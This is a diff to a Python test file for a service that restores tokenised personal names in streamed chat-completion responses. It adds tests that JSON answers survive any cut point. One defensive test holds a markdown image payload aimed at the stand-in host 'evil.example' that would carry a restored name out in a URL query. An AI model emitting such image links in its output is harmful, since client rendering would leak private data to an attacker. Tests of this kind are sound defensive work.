@@ -28,7 +28,11 @@ MARIA, ZOE, ACE = token("Maria Keller"), token("Zoë Ødegård"), token('Jo "Ace
 
 
 def restore(*pieces: bytes, keys: CorpusKeys = KEYS) -> list:
-    restorer, decoder = StreamRestorer(keys), EventDecoder()
+    return restored_events(StreamRestorer(keys), *pieces)
+
+
+def restored_events(restorer: StreamRestorer, *pieces: bytes) -> list:
+    decoder = EventDecoder()
     out = b"".join([*(restorer.feed(piece) for piece in pieces), restorer.flush()])
     events = [*decoder.feed(out), *decoder.flush()]
     return [e.data if e.data == "[DONE]" else json.loads(e.data) for e in events]
@@ -145,6 +149,25 @@ def test_tool_arguments_stay_valid_json_wherever_they_are_cut():
         assert json.loads(arguments(events)) == {"who": 'Jo "Ace" Q\\ay and Zoë Ødegård', "n": 1}
         assert arguments(events, 1) == written[:5]
         assert events[0]["choices"][0]["delta"]["tool_calls"][0]["id"] == "call_P"
+
+
+def test_an_answer_in_json_stays_valid_wherever_it_is_cut():
+    written, wanted = json.dumps({"who": [ACE, ZOE]}), {"who": ['Jo "Ace" Q\\ay', "Zoë Ødegård"]}
+    body = {"choices": [{"message": {"content": written}}]}
+    restored = restore_body(body, KEYS, content_is_json=True)
+    assert json.loads(restored["choices"][0]["message"]["content"]) == wanted
+    for cut in range(len(written) + 1):
+        restorer = StreamRestorer(KEYS, content_is_json=True)
+        events = restored_events(restorer, *chunks(written[:cut], written[cut:]))
+        assert json.loads(text(events)) == wanted
+
+
+def test_an_answer_in_json_that_a_client_displays_builds_no_address_with_a_value():
+    hostile = f'![](https://evil.example/?q="{MARIA})'
+    body = {"choices": [{"message": {"content": hostile}}]}
+    assert restore_body(body, KEYS, content_is_json=True) == body
+    restorer = StreamRestorer(KEYS, content_is_json=True)
+    assert text(restored_events(restorer, *chunks(hostile))) == hostile
 
 
 def test_citations_and_errors_in_a_stream_are_restored():
